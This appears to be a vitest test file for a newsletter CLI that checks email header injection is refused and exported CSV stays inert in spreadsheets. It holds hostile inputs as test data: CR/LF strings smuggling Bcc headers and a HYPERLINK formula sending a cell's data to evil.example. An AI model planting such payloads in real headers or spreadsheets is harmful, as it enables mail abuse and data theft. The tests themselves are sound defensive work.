// The hardening findings as a user meets them through the CLI: header injection refused where it
// enters, CSV that is inert in a spreadsheet and still round-trips, an unterminated quote reported, and
// an address too long for a plain file name still delivered to the outbox. Each command runs in this
// process through main(), the entry point the binary calls (a child process costs seconds to start);
// cli.test.ts runs the binary itself.
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { outboxFileName } from '../../src/send/outbox.ts';
import { parseCsv } from '../../src/subscriptions/csv.ts';
import { cliSetup } from '../support/cli-setup.ts';
import type { TestDb } from '../support/db.ts';
import { parseEml } from '../support/mail.ts';
import { inProcess } from '../support/in-process.ts';

describe.sequential(`tagcast CLI hardening on ${process.env.TAGCAST_TEST_DB}`, () => {
  // A public PUBLIC_URL needs a SECRET of its own (the development one is refused there).
  const setup = cliSetup('hardening', { PUBLIC_URL: 'https://news.example.test', SECRET: 'test-secret-0123456789abcdef-0123456789', METRICS_TOKEN: 'hardening-metrics-token-0123456789' });
  let t: TestDb;
  let dir: string;
  let env: Record<string, string>;
  beforeAll(() => {
    ({ t, dir, env } = setup);
  });

  it('refuses a subject with CR/LF with exit 2 and one line, and creates no issue', async () => {
    const r = await inProcess(['issue', 'create', '--week', '2026-W48', '--subject', 'a\r\nBcc: x@y'], env);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('tagcast: subject contains a control character (U+000D); a subject is one line of text\n');
    // Trimming would hide a trailing line break; it is refused all the same.
    const trailing = await inProcess(['issue', 'create', '--week', '2026-W48', '--subject', 'Hello\r\n'], env);
    expect(trailing.code).toBe(2);
    expect(trailing.stderr).toBe('tagcast: subject contains a control character (U+000D); a subject is one line of text\n');
    const long = await inProcess(['issue', 'create', '--week', '2026-W48', '--subject', 'x'.repeat(201)], env);
    expect(long.code).toBe(2);
    expect(long.stderr).toBe('tagcast: subject is 201 characters long; at most 200 are allowed\n');
    const list = await inProcess(['issue', 'list'], env);
    expect(list.code).toBe(0);
    expect(list.stdout).toBe('');
  });

  it('refuses a display name or tags with control characters with exit 2 and one line', async () => {
    const r = await inProcess(['subscribers', 'add', 'eve@example.com', '--tags', 'AI', '--name', 'Eve\r\nBcc: victim@example.com'], env);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('tagcast: --name contains a control character (U+000D); it must be one line of text\n');
    const tags = await inProcess(['subscribers', 'add', 'eve@example.com', '--tags', 'AI\nBcc: x'], env);
    expect(tags.code).toBe(2);
    expect(tags.stderr).toBe('tagcast: --tags contains a control character (U+000A); it must be one line of text\n');
    // In a CSV file a NUL or ESC in a name is refused too, as a bad row (line breaks there are a wrapped cell).
    const csv = path.join(dir, 'control.csv');
    writeFileSync(csv, 'email,name\neve@example.com,"Eve\u001b[2J"\n');
    const imp = await inProcess(['subscribers', 'import', csv], env);
    expect(imp.code).toBe(1);
    expect(imp.stderr).toBe(`${csv}:2: name contains a control character (U+001B)\n`);
    const list = await inProcess(['subscribers', 'list'], env);
    expect(list.stdout).not.toContain('eve@example.com');
  });

  it('exports formula-like names, tags and addresses inert, and export → import round-trips exactly', async () => {
    const input = path.join(dir, 'formulas.csv');
    writeFileSync(
      input,
      [
        'email,name,tags',
        '-minus@example.com,"=HYPERLINK(""https://evil.example/?d=""&A1,""Click me"")",@SUM(A1:A9)',
        '+plus@example.com,-Ann,-Ops',
        '=eq@example.com,+1 555 0100,=1+2',
        "plain@example.com,''=already quoted,Security", // a guarded cell: the name is '=already quoted
        '',
      ].join('\r\n'),
    );
    const imp = await inProcess(['subscribers', 'import', input, '--create-tags'], env);
    expect(imp.stderr).toBe('');
    expect(imp.code).toBe(0);
    expect(imp.stdout.trim()).toBe('4 rows: 4 added, 0 updated, 0 rejected');

    const first = path.join(dir, 'export-1.csv');
    expect((await inProcess(['subscribers', 'export', first], env)).code).toBe(0);
    const text = readFileSync(first, 'utf8');
    // What a spreadsheet would see in each cell: no cell starts with a formula character.
    const { records, error } = parseCsv(text);
    expect(error).toBeUndefined();
    expect(records).toHaveLength(5);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click me"")"`);
    expect(text).toContain(`"'-minus@example.com"`);
    expect(text).toContain(`"''=already quoted"`);
    for (const row of text.trim().split('\r\n').slice(1)) {
      for (const cell of row.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    // The values came back exactly as they went in.
    const byEmail = new Map(records.slice(1).map((r) => [r.fields[0], r.fields]));
    expect(byEmail.get('-minus@example.com')!.slice(1, 3)).toEqual(['=HYPERLINK("https://evil.example/?d="&A1,"Click me")', '@SUM(A1:A9)']);
    expect(byEmail.get('+plus@example.com')!.slice(1, 3)).toEqual(['-Ann', '-Ops']);
    expect(byEmail.get('=eq@example.com')!.slice(1, 3)).toEqual(['+1 555 0100', '=1+2']);
    expect(byEmail.get('plain@example.com')!.slice(1, 3)).toEqual(["'=already quoted", 'Security']);

    // Importing the export changes nothing, and exporting again gives the same bytes.
    const again = await inProcess(['subscribers', 'import', first], env);
    expect(again.stderr).toBe('');
    expect(again.stdout.trim()).toBe('4 rows: 0 added, 4 updated, 0 rejected');
    const second = path.join(dir, 'export-2.csv');
    expect((await inProcess(['subscribers', 'export', second], env)).code).toBe(0);
    expect(readFileSync(second, 'utf8')).toBe(text);
  });

  it('reports an unterminated quote as FILE:LINE, keeps the rows before it and exits 1', async () => {
    const file = path.join(dir, 'unterminated.csv');
    writeFileSync(file, 'email,name\nbefore@example.com,Before\nbroken@example.com,"Broken\nafter1@example.com,After\nafter2@example.com,After\n');
    const r = await inProcess(['subscribers', 'import', file], env);
    expect(r.code).toBe(1);
    const lines = r.stderr.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:3: unterminated quoted field\\b.*not read`));
    expect(r.stdout.trim()).toBe('1 rows: 1 added, 0 updated, 1 rejected');
    const list = (await inProcess(['subscribers', 'list'], env)).stdout;
    expect(list).toContain('before@example.com');
    expect(list).not.toMatch(/broken@|after1@|after2@/);
  });

  it('sends to a 254-character address: its files land in the outbox, every header line folded', async () => {
    const content = path.join(dir, 'content', '2026-W48');
    mkdirSync(content, { recursive: true });
    writeFileSync(path.join(content, 'one.txt'), 'Tag: Long\nOne\nThe Signal\nS\nThe Case\n- c\nThe 1 Minute Signal Take\nT\nTime saved: 5 min\nTags\nTag: Long\n');
    expect((await inProcess(['import', path.join(dir, 'content')], env)).code).toBe(0);
    const long = `${'l'.repeat(64)}@${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(57)}.com`;
    expect(long).toHaveLength(254);
    const name = `${'Very Long Display Name '.repeat(8)}End`;
    for (const addr of [long, 'short@example.com']) {
      const add = await inProcess(['subscribers', 'add', addr, '--tags', 'Long', '--name', name], env);
      expect(add.code, add.stderr).toBe(0);
    }
    const subject = `${'A long subject line that goes on '.repeat(5)}and ends`;
    expect(subject.length).toBeLessThanOrEqual(200);
    const created = await inProcess(['issue', 'create', '--week', '2026-W48', '--subject', subject], env);
    expect(created.code, created.stderr).toBe(0);
    const id = /created issue (\d+)/.exec(created.stdout)![1]!;
    const sent = await inProcess(['issue', 'send', id, '--wait'], env);
    expect(sent.code, sent.stderr).toBe(0);
    expect(sent.stdout).toMatch(/readers sent: +2/);
    const folder = path.join(dir, 'outbox', id);
    expect(readdirSync(folder).sort()).toEqual([`${outboxFileName(long)}.eml`, `${outboxFileName(long)}.html`, 'short@example.com.eml', 'short@example.com.html'].sort());
    const raw = readFileSync(path.join(folder, `${outboxFileName(long)}.eml`), 'utf8');
    const header = raw.slice(0, raw.indexOf('\r\n\r\n')).split('\r\n');
    for (const l of header) expect(l.length).toBeLessThanOrEqual(998);
    const start = header.findIndex((l) => l.startsWith('Subject:'));
    let end = start + 1;
    while (/^[ \t]/.test(header[end] ?? '')) end++;
    expect(end - start).toBeGreaterThan(1);
    for (const l of header.slice(start, end)) expect(l.length).toBeLessThanOrEqual(78);
    const eml = parseEml(raw);
    expect(eml.headers.get('subject')).toBe(subject);
    expect(eml.headers.get('to')).toBe(`"${name}" <${long}>`);
  });
});
